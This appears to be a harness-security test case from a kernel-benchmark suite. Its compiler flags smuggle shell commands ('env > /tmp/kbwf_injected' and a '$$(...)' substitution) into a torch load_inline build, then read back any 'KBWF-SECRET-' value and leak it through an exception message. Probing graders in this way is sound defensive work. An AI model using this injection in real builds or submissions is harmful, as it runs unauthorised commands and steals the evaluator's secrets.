# task: add_mul
# kind: compile
# idea: flags of the compiler carry commands of the build tool and of the shell
# seen: own idea
# device: any
# blind: yes
# expect: passed, compile_error, runtime_error
import os

from torch.utils.cpp_extension import load_inline

mark = "/tmp/kbwf_injected"
try:
    load_inline(
        name="compile_command_injected",
        cpp_sources="int look() { return 1; }",
        functions=["look"],
        extra_cflags=[f"-DX=1; env > {mark}; true", "$$(env > " + mark + ")"],
    )
except Exception:
    pass
if os.path.exists(mark):
    with open(mark) as file:
        text = file.read()
    os.unlink(mark)
    if "KBWF-SECRET-" in text:
        raise RuntimeError(text[text.index("KBWF-SECRET-") :][:60])


class ModelNew(Model):
    pass
